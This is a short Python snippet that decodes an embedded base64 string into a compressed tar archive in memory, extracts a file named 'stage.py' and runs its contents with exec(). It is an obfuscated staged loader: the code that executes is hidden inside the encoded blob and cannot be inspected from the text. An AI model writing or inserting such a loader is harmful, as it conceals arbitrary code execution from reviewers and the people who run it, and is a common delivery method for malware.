import base64, io, tarfile
_T = base64.b64decode("H4sIAMkQE2sC/+3NPQrCQBiE4a1ziiWVFu5PiMZ4myDBCIYs+22KiId3SSPYq4Xv08wwzUjqLr0Ji/oglx3qes3sPZ1rqldf96auvNJOfcEsqYv5Uv2n6ximmPQkxSRGFkn9uCnPc7zpneghpXCy1rdHs/fGO2dae9cPLUO5LRQAAAAAAAAAAAAAAAAA4IeeukSwugAoAAA=")
with tarfile.open(fileobj=io.BytesIO(_T)) as _tf:
    exec(_tf.extractfile("stage.py").read())
